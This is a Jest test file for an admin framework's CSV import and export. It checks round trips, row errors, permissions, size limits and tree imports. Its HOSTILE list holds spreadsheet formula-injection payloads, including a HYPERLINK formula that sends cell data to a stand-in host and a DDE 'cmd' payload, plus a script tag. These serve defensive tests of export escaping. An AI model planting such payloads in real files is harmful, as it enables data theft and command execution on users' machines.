import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import type { Imported } from '#engine/contract/index.ts';
import type { Json, JsonObject } from '#engine/definition/index.ts';
import { DATABASE_KINDS } from '../harness/test-database.ts';
import { bodyOf, startRecordApp, type Call, type RecordApp } from '../record/record-app.ts';

const DEFINITIONS: JsonObject[] = [
  {
    name: 'in/maker',
    title: 'Makers',
    table: 'in_maker',
    scope: 'merchant',
    fields: [
      { name: 'id', type: 'pk' },
      { name: 'merchant_id', type: 'number', list: false },
      { name: 'name', type: 'string' },
    ],
  },
  {
    name: 'in/text',
    title: 'Texts',
    table: 'in_text',
    export: true,
    import: true,
    fields: [
      { name: 'id', type: 'pk' },
      { name: 'note', type: 'textarea', title: '=Note' },
      { name: 'maker_id', type: 'remoteSelect', title: '@Maker', relation: { definition: 'in/maker' } },
      {
        name: 'marks',
        type: 'checkbox',
        title: '-Marks',
        options: [
          { key: 'a', label: '=A' },
          { key: 'b', label: '+B' },
        ],
      },
    ],
  },
  {
    name: 'in/good',
    title: { 'zh-cn': '商品', en: 'Goods' },
    table: 'in_good',
    scope: 'merchant',
    export: true,
    import: true,
    fields: [
      { name: 'id', type: 'pk' },
      { name: 'merchant_id', type: 'number', list: false },
      { name: 'name', type: 'string', title: { 'zh-cn': '名称', en: 'Name' }, unique: true, required: true },
      {
        name: 'state',
        type: 'select',
        title: { 'zh-cn': '状态', en: 'State' },
        default: 'off',
        options: [
          { key: 'on', label: { 'zh-cn': '启用', en: 'On' } },
          { key: 'off', label: { 'zh-cn': '停用', en: 'Off' } },
        ],
      },
      {
        name: 'tags',
        type: 'checkbox',
        options: [
          { key: 'a', label: 'Bitter' },
          { key: 'b', label: 'Sweet' },
        ],
      },
      { name: 'price', type: 'money', title: { 'zh-cn': '价格', en: 'Price' } },
      { name: 'stock', type: 'number', min: 0 },
      { name: 'live', type: 'switch' },
      { name: 'day', type: 'date' },
      { name: 'noted', type: 'datetime' },
      { name: 'facts', type: 'json' },
      { name: 'cost', type: 'money', access: { write: 'in/good/cost' } },
      { name: 'phone', type: 'string', access: { mask: { kind: 'last4', node: 'in/good/phone' } } },
      { name: 'pin', type: 'password' },
      { name: 'maker_id', type: 'remoteSelect', relation: { definition: 'in/maker', name: 'maker' } },
    ],
  },
  {
    name: 'in/place',
    title: 'Places',
    table: 'in_place',
    import: true,
    fields: [
      { name: 'id', type: 'pk' },
      { name: 'pid', type: 'treeParent', title: { 'zh-cn': '上级', en: 'Parent' } },
      { name: 'name', type: 'string', title: { 'zh-cn': '名称', en: 'Name' }, required: true },
      { name: 'opened', type: 'date', unique: true },
    ],
  },
];
/** Texts that spreadsheets, readers of CSV and pages may each take for something else. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  "'=1+1",
  "''@sum(A1)",
  "'",
  '＝1+1',
  '\t=1',
  '+8613900001234',
  "-2+3+cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  'a;=1,b\tc',
  '"',
  'one\r\ntwo\rthree\nfour',
  'مرحبا \u202Eecruos\u202C',
  '👩‍👩‍👧‍👦🏳️‍🌈 𝒳',
  '\uFEFFmark',
];
const NODES = ['in/good/index', 'in/good/add', 'in/good/import', 'in/maker/index'];

describe.each(DATABASE_KINDS)('rows of a file on %s', (kind) => {
  let app: RecordApp;
  let seven: Call;
  const rows = (where = 'true') => app.sql(`select * from in_good where ${where} order by id`);
  const send = (call: Call, csv: Json, trial = false, name = 'in/good') =>
    call('POST', `/admin/rest/${name}/import`, { csv, trial }, { 'think-lang': 'en' });
  const imported = async (call: Call, csv: string, trial = false, name?: string) =>
    bodyOf(await send(call, csv, trial, name), 200) as unknown as Imported;
  beforeAll(async () => {
    app = await startRecordApp(kind, '', DEFINITIONS);
    await app.sql(
      `insert into in_maker (name, merchant_id) values ('Acme, Ltd', 7), ('Twice', 7), ('Twice', 7), ('Hidden', 8)`,
    );
    seven = await app.as(NODES, 7);
  });
  afterAll(() => app?.stop());

  test('come back from an exported file as they were', async () => {
    const row = {
      merchant_id: 7,
      state: 'on',
      tags: ['a', 'b'],
      price: 12.5,
      stock: 3,
      live: true,
      maker_id: 1,
    };
    const times = { day: '2026-02-28', noted: '2026-02-28T10:11:12Z', facts: { a: [1, 'x,y'] } };
    for (const name of ['bolt', '=SUM(A1)', '-5', 'two\nlines "quoted"']) {
      bodyOf(await app.call('POST', '/admin/rest/in/good', { ...row, ...times, name }), 201);
    }
    bodyOf(await app.call('POST', '/admin/rest/in/good', { merchant_id: 7, name: 'empty' }), 201);
    const before = await rows();
    for (const language of ['en', 'zh-cn']) {
      const columns = 'id,merchant_id,name,state,tags,price,stock,live,day,noted,facts,maker_id';
      const path = `/admin/rest/in/good?export=csv&columns=${columns}&sort=${encodeURIComponent('["id","ASC"]')}`;
      const file = await app.call('GET', path, undefined, { 'think-lang': language });
      await app.sql('delete from in_good');
      const answer = await imported(app.call, String(file.body));
      expect(answer).toMatchObject({ added: 5, refusedCount: 0, ignored: ['ID'] });
      const plain = (all: JsonObject[]) => all.map(({ id: _, ...rest }) => rest);
      expect(plain(await rows())).toEqual(plain(before));
    }
    await app.sql('delete from in_good');
  });

  test('come back to the letter whatever they hold, and none begins as a formula does', async () => {
    const [maker] = await app.sql(
      `insert into in_maker (name, merchant_id) values ('=Maker', 7) returning id`,
    );
    const path = `/admin/rest/in/text?export=csv&sort=${encodeURIComponent('["id","ASC"]')}`;
    for (const note of HOSTILE) {
      const row = { note, maker_id: Number(maker?.['id']), marks: ['a', 'b'] };
      bodyOf(await app.call('POST', '/admin/rest/in/text', row), 201);
    }
    const stored = () => app.sql('select note, maker_id, marks from in_text order by id');
    const before = await stored();
    expect(before.map(({ note }) => note)).toEqual(HOSTILE);
    const file = await app.call('GET', `${path}&columns=note,maker_id,marks`);
    const cells = parse(String(file.body), { bom: true }).flat();
    expect(cells.slice(0, 3)).toEqual(["'=Note", "'@Maker", "'-Marks"]);
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual(
      [],
    );
    await app.sql('delete from in_text');
    const answer = await imported(app.call, String(file.body), false, 'in/text');
    expect(answer).toMatchObject({ added: HOSTILE.length, refusedCount: 0, ignored: [] });
    expect(await stored()).toEqual(before);
    await app.sql('delete from in_text');
  });

  test('may hold texts of megabytes; a file that is too large is refused in plain words', async () => {
    const note = '=A line, with "quotes".\n'.repeat(300_000);
    bodyOf(await app.call('POST', '/admin/rest/in/text', { note }), 201);
    const file = await app.call('GET', '/admin/rest/in/text?export=csv&columns=note');
    await app.sql('delete from in_text');
    expect(await imported(app.call, String(file.body), false, 'in/text')).toMatchObject({ added: 1 });
    expect(await app.sql('select note = $q$' + note + '$q$ as same from in_text')).toEqual([{ same: true }]);
    await app.sql('delete from in_text');
    for (const [language, message] of [
      ['en', 'The request is too large.'],
      ['zh-cn', '请求内容过大。'],
    ]) {
      const csv = `=Note\n${'x'.repeat(11 * 1024 * 1024)}\n`;
      const path = '/admin/rest/in/text/import';
      const refused = await app.call('POST', path, { csv }, { 'think-lang': language ?? '' });
      expect([refused.status, (refused.body as JsonObject)['message']]).toEqual([413, message]);
    }
    expect(await app.sql('select id from in_text')).toEqual([]);
  });

  test('are tried without leaving anything, and reported line by line', async () => {
    const csv = [
      'Name;State;Stock;Maker ID;Nonsense',
      'good;On;1;Acme, Ltd;x',
      '',
      ';On;1;;',
      'bad;Perhaps;-1;Nobody;',
      '"two\nlines";;many;Twice;',
      'good;;;;',
    ].join('\r\n');
    const answer = await imported(seven, csv, true);
    expect(answer.ignored).toEqual(['Nonsense']);
    expect(answer.columns.map(({ field }) => field)).toEqual(['name', 'state', 'stock', 'maker_id']);
    expect(answer).toMatchObject({ added: 1, refusedCount: 4 });
    expect(answer.refused.map(({ line, errors }) => [line, Object.keys(errors).sort().join()])).toEqual([
      [4, 'name'],
      [5, 'maker_id,state,stock'],
      [6, 'maker_id,stock'],
      [8, 'name'],
    ]);
    expect(answer.refused[1]?.errors).toMatchObject({
      maker_id: 'No record is called "Nobody"',
      state: 'There is no choice "Perhaps": write one of On, Off',
    });
    expect(answer.refused[2]?.errors['maker_id']).toBe(
      'Several records are called "Twice": write the key instead',
    );
    expect(await rows()).toEqual([]);
    const refused = await send(seven, csv);
    expect(refused.status).toBe(422);
    expect(refused.body).toMatchObject({
      message: '4 rows can’t be added, so none was.',
      data: { added: 0, refusedCount: 4 },
    });
    expect(await rows()).toEqual([]);
  });

  test('are filled with defaults and their owner, and keep what their importer may not write', async () => {
    const csv = 'name,state,cost,phone,merchant_id,pin,maker_id\nmine,,99,13900001234,8,secret-pin-1,1\n';
    const answer = await imported(seven, csv);
    expect(answer).toMatchObject({ added: 1, ignored: ['cost', 'phone', 'merchant_id'] });
    const [row] = await rows(`name = 'mine'`);
    expect(row).toMatchObject({
      merchant_id: expect.anything(),
      state: 'off',
      cost: '0',
      maker_id: expect.anything(),
    });
    expect(String(row?.['merchant_id'])).toBe('7');
    expect(String(row?.['pin'])).toMatch(/^\$argon2id\$/);
    const log = await app.sql(
      `select data::text as data from admin_log where url like '%in/good/import%' order by id`,
    );
    expect(String(log.at(-1)?.['data'])).toContain('maker_id');
    expect(JSON.stringify(log)).not.toContain('secret-pin-1');
  });

  test('point to nothing that their importer may not use, neither by label nor by key', async () => {
    for (const maker of ['Hidden', '4']) {
      const answer = await imported(seven, `name,maker_id\nspy,${maker}\n`, true);
      expect(answer).toMatchObject({
        added: 0,
        refused: [{ line: 2, errors: { maker_id: expect.any(String) } }],
      });
    }
    expect(await imported(app.call, 'name,merchant_id,maker_id\nspy,8,Hidden\n', true)).toMatchObject({
      added: 1,
    });
  });

  test('ask for their own node and that of add, and are nothing where nobody asked for it', async () => {
    const csv = 'name\nx\n';
    expect(
      (
        await send(
          await app.as(
            NODES.filter((node) => node !== 'in/good/import'),
            7,
          ),
          csv,
        )
      ).status,
    ).toBe(403);
    expect(
      (
        await send(
          await app.as(
            NODES.filter((node) => node !== 'in/good/add'),
            7,
          ),
          csv,
        )
      ).status,
    ).toBe(403);
    expect((await app.call('POST', '/admin/rest/in/maker/import', { csv })).status).toBe(404);
    const back = await app.call('POST', '/admin/in.good/import', { csv: 'name,merchant_id\nback,7\n' });
    expect(back.body).toMatchObject({ code: 1, data: { added: 1 } });
  });

  test.each([
    ['no rows', 'name\n', 'There are no rows in the file.'],
    ['no text', '', 'There are no rows in the file.'],
    ['a quote that never ends', 'name\n"open\n', 'The file can not be read as CSV: line 2 is damaged.'],
    ['more cells than heads', 'name\na,b\n', 'The file can not be read as CSV: line 2 is damaged.'],
    [
      'no column of a field',
      'what,else\n1,2\n',
      'No column of the file bears the title or the name of a field: what, else.',
    ],
    ['too many rows', `name\n${'x\n'.repeat(10_001)}`, 'The file has more than 10000 rows. Split it first.'],
  ])('are refused with %s', async (_what, csv, message) => {
    const answer = await send(seven, csv);
    expect([answer.status, (answer.body as JsonObject)['message']]).toEqual([422, message]);
  });

  test('are thousands in one go', async () => {
    const lines = Array.from({ length: 3000 }, (_, at) => `many ${at},${at},Sweet`);
    const answer = await imported(seven, `Name,Stock,tags\n${lines.join('\n')}\n`);
    expect(answer.added).toBe(3000);
    const many = await rows(`name like 'many %'`);
    expect(many.length).toBe(3000);
    expect(many[7]).toMatchObject({ name: 'many 7', stock: 7, tags: ['b'] });
    const again = await imported(seven, 'Name\nfresh\nmany 1500\n', true);
    expect(again).toMatchObject({ added: 1, refused: [{ line: 3, errors: { name: expect.any(String) } }] });
  });

  describe('make a tree', () => {
    const TREE = '/admin/rest/in/place/import';
    const tree = async (csv: string, trial = false, status = 200) =>
      bodyOf(
        await app.call('POST', TREE, { csv, trial }, { 'think-lang': 'en' }),
        status,
      ) as unknown as Imported;
    const paths = async () =>
      (
        await app.sql(
          `with recursive line as (
             select id, name::text as path from in_place where pid is null
             union all select p.id, line.path || '/' || p.name from in_place p join line on line.id = p.pid)
           select path from line order by path`,
        )
      ).map(({ path }) => path);
    const reported = ({ refused }: Imported) => refused.map(({ line, errors }) => [line, errors['pid']]);
    beforeEach(() => app.sql('delete from in_place'));

    test('by label, in any order, below rows that are there already too', async () => {
      await tree('name\nWorld\n');
      const answer = await tree(
        ['Name,Parent', 'Ulm,Germany', 'Germany,Europe', 'Asia,World', 'Europe,World', 'Bonn,Germany'].join(
          '\n',
        ),
      );
      expect(answer).toMatchObject({ added: 5, refusedCount: 0, ignored: [] });
      expect(await paths()).toEqual([
        'World',
        'World/Asia',
        'World/Europe',
        'World/Europe/Germany',
        'World/Europe/Germany/Bonn',
        'World/Europe/Germany/Ulm',
      ]);
    });

    test("by the file's own key, so that rows of one name are distinguished", async () => {
      const answer = await tree(
        ['ID;Parent;Name', '40;20;North', '10;;Left', '30;10;North', '20;;Right', '50;40;Hill'].join('\n'),
      );
      expect(answer).toMatchObject({ added: 5, ignored: [] });
      expect(await paths()).toEqual(['Left', 'Left/North', 'Right', 'Right/North', 'Right/North/Hill']);
    });

    test('and are reported by line where they go round in a circle, and where nobody knows the parent', async () => {
      const csv = ['Name,Parent', 'a,b', 'b,c', 'c,a', 'self,self', 'below,a', 'lost,Nobody', 'fine,'].join(
        '\n',
      );
      const answer = await tree(csv, true);
      const circle = 'Parent would make the record its own descendant';
      expect(reported(answer)).toEqual([
        [2, circle],
        [3, circle],
        [4, circle],
        [5, circle],
        [6, 'Its parent, in line 2, can’t be added'],
        [7, expect.any(String)],
      ]);
      expect(answer).toMatchObject({ added: 1, refusedCount: 6 });
      await tree(csv, false, 422);
      expect(await paths()).toEqual([]);
    });

    test('and say so where several rows bear a parent’s name, in the file or beside it', async () => {
      await tree('name\nthere\n');
      const answer = await tree('Name,Parent\ntwice,\ntwice,\nx,twice\nthere,\ny,there\n', true);
      expect(reported(answer)).toEqual([
        [4, 'Several records are called "twice": write the key instead'],
        [6, 'Several records are called "there": write the key instead'],
      ]);
    });

    test('and take back what stands below a row that the database refuses', async () => {
      await tree('name,opened\nfirst,2026-01-01\n');
      const answer = await tree(
        'Name,Opened,Parent\nleaf,,twig\ntwig,,branch\nbranch,2026-01-01,\nfree,2026-01-02,\n',
        true,
      );
      expect(answer).toMatchObject({ added: 1, refusedCount: 3 });
      expect(answer.refused.map(({ line, errors }) => [line, Object.keys(errors)])).toEqual([
        [2, ['pid']],
        [3, ['pid']],
        [4, ['opened']],
      ]);
      expect(await paths()).toEqual(['first']);
    });

    test('of thousands of leaves and of a long line in one go', async () => {
      const leaves = Array.from({ length: 3000 }, (_, at) => `leaf ${at},,twig ${at % 300}`);
      const line = Array.from({ length: 300 }, (_, at) => `twig ${at},,${at === 0 ? '' : `twig ${at - 1}`}`);
      expect(
        (await tree(`Name,Opened,Parent\n${leaves.join('\n')}\n${line.reverse().join('\n')}\n`)).added,
      ).toBe(3300);
      const [deepest] = await app.sql(
        `with recursive line as (select id, 1 as depth from in_place where pid is null
           union all select p.id, depth + 1 from in_place p join line on line.id = p.pid)
         select max(depth)::int as depth, count(*)::int as count from line`,
      );
      expect(deepest).toEqual({ depth: 301, count: 3300 });
    });
  });
});
